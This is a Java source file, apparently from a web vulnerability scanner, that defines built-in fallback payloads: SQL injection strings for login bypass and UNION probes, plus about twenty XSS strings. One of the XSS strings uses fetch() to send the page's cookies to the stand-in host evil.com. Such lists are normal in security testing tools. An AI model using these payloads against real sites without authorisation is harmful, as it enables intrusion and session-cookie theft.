package com.websweep.core.payload;

import java.util.List;

/** 파일이 없을 때 쓰는 내장 페이로드 */
public final class DefaultPayloads {
    private DefaultPayloads() {}

    /** 이름 + 기대 결과가 붙은 SQLi 페이로드 */
    public static final List<SqlPayload> SQL_STRUCTURED = List.of(
            new SqlPayload("Login Bypass", "' OR '1'='1", "Welcome"),
            new SqlPayload("Union Based", "' UNION SELECT 1,2,3--", "2"),
            new SqlPayload("Error Based", "' OR 1=1--", "Welcome"),
            new SqlPayload("Boolean Based", "' OR 1=1#", "Welcome"),
            new SqlPayload("Time Based", "' OR (SELECT COUNT(*) FROM users) > 0--", "Welcome")
    );

    /** sql.txt 기본값 */
    public static final List<String> SQL_PLAIN = List.of(
            "' OR 1=1--",
            "' OR 1=1#",
            "' OR 1=1/*"
    );

    /** 스크립트 태그, 이벤트 핸들러, javascript: URI, 인코딩 변형 */
    public static final List<String> XSS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<body onload=alert(1)>",
            "javascript:alert(1)",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<script>document.cookie</script>",
            "\"><script>alert(1)</script>",
            "';alert(1);//",
            "<img src=\"x\" onerror=\"alert(document.domain)\">",
            "<script>fetch('https://evil.com?cookie='+document.cookie)</script>",
            "<div style=\"background-image: url(javascript:alert(1))\">",
            "<a href=\"javascript:alert(1)\">Click me</a>",
            "<a onmouseover=\"alert(1)\">hover me</a>",
            "<ScRiPt>alert(1)</ScRiPt>",
            "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
            "<input onfocus=alert(1) autofocus>",
            "<marquee onstart=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video src=1 onerror=alert(1)>",
            "<audio src=1 onerror=alert(1)>"
    );
}
